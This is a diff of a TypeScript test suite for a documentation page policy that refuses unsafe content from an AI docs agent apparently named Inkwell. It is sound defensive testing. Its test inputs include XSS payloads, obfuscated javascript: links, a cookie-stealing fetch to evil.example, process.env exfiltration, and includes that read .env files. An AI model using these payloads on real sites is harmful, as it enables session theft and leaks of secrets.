@@ -4,32 +4,40 @@ import { fixtureWorkingTree } from "#testkit/model/fixture-working-tree.ts";
 import { ToolRefusal } from "../../../app/agent/agent-errors.ts";
 import { checkPageChange } from "../../../app/agent/workspace/page-policy.ts";
 
-const site = () => ({
+const site = (mdxForMd = false) => ({
   docsRoot: "docs",
+  mdxForMd,
+  docusaurus: mdxForMd,
   siteImports: () => new Set(['import { Tabs } from "@site/src/components/Tabs";']),
   exists: (repoPath: string) =>
     ["docs/snippets/requirements.mdx", "docs/guides/_note.md", ".env.mdx"].includes(repoPath),
 });
 
-const refusal = (path: string, after: string, before?: string) => {
-  const verdict = checkPageChange(path, path.replace(/^docs\//, ""), before, after, site());
+const refusal = async (path: string, after: string, before?: string, mdxForMd = false) => {
+  const verdict = await checkPageChange(
+    path,
+    path.replace(/^docs\//, ""),
+    async () => before,
+    after,
+    site(mdxForMd),
+  );
   return verdict.allowed ? undefined : verdict.message;
 };
 
 describe("what a page makes the generator do", () => {
-  it("lets a page import a snippet page of the docs that exists, and nothing else by that route", () => {
+  it("lets a page import a snippet page of the docs that exists, and nothing else by that route", async () => {
     expect(
-      refusal(
+      await refusal(
         "docs/cli/install.mdx",
         'import Requirements from "/snippets/requirements.mdx";\n\n<Requirements />\n',
       ),
     ).toBeUndefined();
     expect(
-      refusal("docs/guides/a.mdx", 'import Note from "./_note.md";\n\n<Note />\n'),
+      await refusal("docs/guides/a.mdx", 'import Note from "./_note.md";\n\n<Note />\n'),
     ).toBeUndefined();
     // A snippet that does not exist, one outside the docs root, and a module are still refused.
     for (const source of ["/snippets/missing.mdx", "../../.env.mdx", "./helper.js"]) {
-      expect(refusal("docs/guides/a.mdx", `import X from "${source}";\n\n<X />\n`)).toContain(
+      expect(await refusal("docs/guides/a.mdx", `import X from "${source}";\n\n<X />\n`)).toContain(
         "an `import` no page of the site already has",
       );
     }
@@ -94,38 +102,164 @@ describe("what a page makes the generator do", () => {
       "docs/img/a.svg",
       '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
     ],
-  ])("refuses %s", (_, path, after) => {
-    expect(refusal(path, after)).toMatch(/^Inkwell may not /);
+  ])("refuses %s", async (_, path, after) => {
+    expect(await refusal(path, after)).toMatch(/^Inkwell may not /);
   });
 
-  it("allows pages that use what the site already uses, and includes inside the docs", () => {
+  it("allows pages that use what the site already uses, and includes inside the docs", async () => {
     expect(
-      refusal("docs/a.mdx", 'import { Tabs } from "@site/src/components/Tabs";\n\n<Tabs />\n'),
+      await refusal(
+        "docs/a.mdx",
+        'import { Tabs } from "@site/src/components/Tabs";\n\n<Tabs />\n',
+      ),
     ).toBeUndefined();
     expect(
-      refusal("docs/a.mdx", "# A\n\n```js\nimport fs from 'node:fs';\nexport const x = 1;\n```\n"),
+      await refusal(
+        "docs/a.mdx",
+        "# A\n\n```js\nimport fs from 'node:fs';\nexport const x = 1;\n```\n",
+      ),
     ).toBeUndefined();
     expect(
-      refusal("docs/guides/a.rst", ".. literalinclude:: ../examples/run.py\n"),
+      await refusal("docs/guides/a.rst", ".. literalinclude:: ../examples/run.py\n"),
     ).toBeUndefined();
-    expect(refusal("docs/guides/a.md", '--8<-- "snippets/note.md:3:9"\n')).toBeUndefined();
+    expect(await refusal("docs/guides/a.md", '--8<-- "snippets/note.md:3:9"\n')).toBeUndefined();
     expect(
-      refusal(
+      await refusal(
         "docs/img/a.svg",
         '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
       ),
     ).toBeUndefined();
   });
 
-  it("judges only what the change adds", () => {
+  it("judges only what the change adds", async () => {
     const before = 'export const meta = { x: 1 };\n\n--8<-- "../../shared/footer.md"\n\n# A\n';
-    expect(refusal("docs/a.mdx", `${before}\nMore words.\n`, before)).toBeUndefined();
+    expect(await refusal("docs/a.mdx", `${before}\nMore words.\n`, before)).toBeUndefined();
   });
 
-  it("names the statement it refuses and what to do instead", () => {
-    expect(refusal("docs/a.mdx", 'import fs from "node:fs";\n')).toContain(
-      'Inkwell may not add `import fs from "node:fs";` to a.mdx',
+  it("names the statement it refuses and what to do instead", async () => {
+    expect(await refusal("docs/a.mdx", 'import fs from "node:fs";\n')).toContain(
+      'Inkwell may not add `import fs from "node:fs"` to a.mdx',
     );
+  });
+});
+
+describe("code in a page, read as the site's MDX compiler reads it", () => {
+  it.each([
+    [
+      "an export after an indented import",
+      "docs/a.mdx",
+      "  import cp from 'child_process'\n\nexport const leaked = JSON.stringify(process.env)\n",
+    ],
+    ["an expression that runs a command", "docs/a.mdx", "# A\n\n{cp.execSync('id')}\n"],
+    ["an expression inside a paragraph", "docs/a.mdx", "Version {process.env.SECRET} is out.\n"],
+    [
+      "an event handler given as an expression",
+      "docs/a.mdx",
+      "<img src=\"/a.png\" onError={() => fetch('https://evil.example/?' + document.cookie)} />\n",
+    ],
+    ["a spread attribute", "docs/a.mdx", "<Tabs {...globalThis} />\n"],
+    [
+      "an export after a line that only looks like a fence",
+      "docs/a.mdx",
+      "```x`\n\nexport const x = 1\n",
+    ],
+    ["a script element", "docs/a.mdx", "<script>{`alert(1)`}</script>\n"],
+    ["an event handler given as a string", "docs/a.mdx", '<div onClick="alert(1)">A</div>\n'],
+    ["a link to a script address", "docs/a.mdx", '<a href="java\tscript:alert(1)">A</a>\n'],
+  ])("refuses %s", async (_, path, after) => {
+    expect(await refusal(path, after)).toMatch(/^Inkwell may not /);
+  });
+
+  it("reads .md pages as MDX where the site compiles them so, and refuses an expression there", async () => {
+    const page = "# Config\n\n{JSON.stringify(process.env)}\n";
+    expect(await refusal("docs/config.md", page, undefined, true)).toContain(
+      "`{JSON.stringify(process.env)}`",
+    );
+    // On a site that reads Markdown as Markdown, braces are text.
+    expect(await refusal("docs/config.md", page, undefined, false)).toBeUndefined();
+  });
+
+  it.each([
+    ["a script element", "<script>fetch('https://evil.example/')</script>\n"],
+    ["an event handler", '<img src="a.png" onerror="alert(1)">\n'],
+    ["a tab inside the scheme of a link", "[A](<java\tscript:alert(1)>)\n"],
+    ["a character reference inside the scheme", '<a href="jav&#x61;script:alert(1)">A</a>\n'],
+    ["an HTML data address", "[A](data:text/html;base64,PHNjcmlwdD4=)\n"],
+    [
+      "an rST csv-table that reads a file outside the docs",
+      ".. csv-table:: Keys\n   :file: ../../.env\n",
+    ],
+    ["an AsciiDoc include outside the docs", "include::../../.env[]\n"],
+  ])("refuses in a Markdown page %s", async (_, after) => {
+    const path = after.startsWith(".. ")
+      ? "docs/a.rst"
+      : after.startsWith("include::")
+        ? "docs/a.adoc"
+        : "docs/a.md";
+    expect(await refusal(path, after)).toMatch(/^Inkwell may not /);
+  });
+
+  it.each([
+    [
+      "a script in another namespace",
+      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>',
+    ],
+    [
+      "HTML inside foreignObject",
+      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>',
+    ],
+    [
+      "an address spelled with character references",
+      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="&#106;avascript:alert(1)"><text>x</text></a></svg>',
+    ],
+    [
+      "an address set by an animation",
+      '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
+    ],
+    [
+      "an entity declaration",
+      '<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg"/>',
+    ],
+    ["XML that is not well-formed", '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>'],
+  ])("refuses an SVG with %s", async (_, after) => {
+    expect(await refusal("docs/img/a.svg", after)).toMatch(/^Inkwell may not /);
+  });
+
+  it("allows literals, comments, components with string attributes, and code in fences", async () => {
+    const page = [
+      'import { Tabs } from "@site/src/components/Tabs";',
+      "",
+      "{/* a note for editors */}",
+      "",
+      '<Tabs groupId="os" count={3} title={"Install"}>',
+      "",
+      "Text with {'braces'} as a string.",
+      "",
+      "</Tabs>",
+      "",
+      "```js",
+      "export const x = {a: process.env};",
+      "```",
+      "",
+      "`{inline}` code and [a link](https://example.com).",
+      "",
+    ].join("\n");
+    expect(await refusal("docs/a.mdx", page)).toBeUndefined();
+    expect(
+      await refusal("docs/a.md", page.replace(/^import.*$/m, ""), undefined, true),
+    ).toBeUndefined();
+  });
+
+  it("keeps an expression the page already had, and refuses a new one beside it", async () => {
+    const before = "# A\n\n{props.version}\n";
+    expect(await refusal("docs/a.mdx", `${before}\nMore.\n`, before)).toBeUndefined();
+    expect(await refusal("docs/a.mdx", `${before}\n{process.env.TOKEN}\n`, before)).toContain(
+      "process.env.TOKEN",
+    );
+  });
+
+  it("refuses a page that does not parse as MDX, saying so", async () => {
+    expect(await refusal("docs/a.mdx", "# A\n\n<div>\n")).toContain("does not parse as MDX");
   });
 });
 
